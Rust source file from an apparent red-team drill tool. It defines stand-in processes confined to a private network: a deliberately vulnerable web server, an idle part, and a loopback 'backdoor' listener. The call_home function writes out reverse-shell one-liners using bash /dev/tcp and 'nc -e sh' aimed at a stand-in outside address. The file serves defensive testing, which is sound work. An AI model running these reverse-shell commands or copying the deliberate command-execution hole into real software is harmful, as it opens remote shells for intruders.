//! The stand-ins: parts that a copy of our own binary plays inside the drill's private network.
//!
//! They are harmless by construction: they play only in a private network, only on its loopback, only for
//! [`Stage::LONGEST`] (and what the drill is held for), and a request never carries a command: it only picks one of the lines written here.

use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream, UdpSocket};
use std::path::Path;
use std::time::{Duration, Instant};

use super::stage::{HOME_PORT, OUTSIDE, Stage, WEB_PORT};
use bartizan_sys::namespace::{Resident, start_shell};

/// The environment variable that names the part.
pub const PART: &str = "BARTIZAN_DRILL_PART";

/// The environment variable that says for how many seconds a drill is held.
pub(super) const HOLD: &str = "BARTIZAN_DRILL_HOLD";

/// The web server with a hole.
pub(super) const WEB_SERVER: &str = "web-server";
/// A program that does nothing at all.
pub(super) const IDLE: &str = "idle";
/// A program that waits for strangers on loopback.
pub(super) const BACKDOOR: &str = "backdoor";

/// The request that makes the hole run one harmless command.
pub(super) const FOOTHOLD: &str = "/foothold";
/// The request that makes the hole call home with a shell.
pub(super) const CALL_HOME: &str = "/call-home";

/// Where the part called [`BACKDOOR`] listens, on loopback.
pub(super) const BACKDOOR_PORT: u16 = 31_337;

/// Plays the part that the environment names.
///
/// # Errors
/// When there is no such part, or this is no private network: then nothing is done.
pub fn play() -> Result<(), String> {
    let part = std::env::var(PART).map_err(|_| format!("no part to play: this is for `bartizan redteam live` only ({PART} is not set)"))?;
    play_part(&part)
}

fn play_part(part: &str) -> Result<(), String> {
    // Only a drill's network owns this documentation address; no host does. (Comparing with the network of pid 1
    // would need leave to look at pid 1, which a container may not have.)
    if UdpSocket::bind((OUTSIDE, 0)).is_err() {
        return Err("a drill's stand-in plays only in a private network; use `bartizan redteam live`".to_owned());
    }
    match part {
        WEB_SERVER => serve().map_err(|e| format!("stand-in web server on 127.0.0.1:{WEB_PORT}: {e}")),
        BACKDOOR => wait_for_strangers().map_err(|e| format!("stand-in back door on 127.0.0.1:{BACKDOOR_PORT}: {e}")),
        IDLE => Ok(()),
        other => Err(format!("no part is called \"{}\"", other.escape_debug())),
    }
}

/// A web server with a hole: some requests start a shell.
fn serve() -> std::io::Result<()> {
    let listener = TcpListener::bind(("127.0.0.1", WEB_PORT))?;
    listener.set_nonblocking(true)?;
    let deadline = Instant::now() + lifetime();
    let mut shells: Vec<Resident> = Vec::new();
    while Instant::now() < deadline {
        shells.retain_mut(Resident::is_running);
        match listener.accept() {
            // The drill makes two requests; more than a handful is not the drill.
            Ok((stream, _)) if shells.len() < 4 => shells.extend(answer(stream)),
            Ok(_) => {}
            Err(_) => std::thread::sleep(Duration::from_millis(5)),
        }
    }
    Ok(())
}

fn answer(mut stream: TcpStream) -> Option<Resident> {
    stream.set_nonblocking(false).ok()?;
    stream.set_read_timeout(Some(Duration::from_secs(1))).ok()?;
    let mut request = [0; 512];
    let length = stream.read(&mut request).ok()?;
    let line = String::from_utf8_lossy(request.get(..length)?).into_owned();
    let script = match line.split_whitespace().nth(1)? {
        FOOTHOLD => foothold(),
        CALL_HOME => call_home(Path::new("/bin/bash").exists()),
        _ => return None,
    };
    let shell = start_shell(&script, &std::env::current_dir().ok()?).ok();
    let status = if shell.is_some() { "200 OK" } else { "500 Internal Server Error" };
    // One write, so that the answer arrives in one piece.
    let _ = stream.write_all(format!("HTTP/1.0 {status}\r\nContent-Length: 0\r\n\r\n").as_bytes());
    shell
}

/// What an intruder's first command usually is.
fn foothold() -> String {
    "id > foothold.txt; sleep 0.2".to_owned()
}

/// A shell whose input and output are a socket to the outside. bash can connect by itself; without it, a netcat
/// that can start a program must be there (busybox has one), or the step fails and says so.
fn call_home(with_bash: bool) -> String {
    if with_bash {
        format!("bash -c 'exec 3<>/dev/tcp/{OUTSIDE}/{HOME_PORT} && exec sh <&3 >&3 2>&3'")
    } else {
        format!("nc {OUTSIDE} {HOME_PORT} -e sh || busybox nc {OUTSIDE} {HOME_PORT} -e sh")
    }
}

/// How long a part may live.
fn lifetime() -> Duration {
    let hold = std::env::var(HOLD).ok().and_then(|seconds| seconds.parse().ok()).map_or(Duration::ZERO, Duration::from_secs);
    Stage::LONGEST + hold.min(Stage::LONGEST_HOLD)
}

fn wait_for_strangers() -> std::io::Result<()> {
    let listener = TcpListener::bind(("127.0.0.1", BACKDOOR_PORT))?;
    std::thread::sleep(lifetime());
    drop(listener);
    Ok(())
}

#[cfg(test)]
mod tests {
    /// Not a test by itself: the drill's tests copy this very test binary and have it play the parts here.
    #[test]
    fn stand_in() {
        if std::env::var_os(super::PART).is_some() {
            super::play().unwrap();
        }
    }

    #[test]
    fn nobody_plays_on_the_hosts_own_network() {
        let refused = super::play_part("web-server").unwrap_err();
        assert!(refused.contains("only in a private network"), "{refused}");
        assert!(std::net::TcpStream::connect(("127.0.0.1", super::WEB_PORT)).is_err(), "it listens all the same");
    }
}
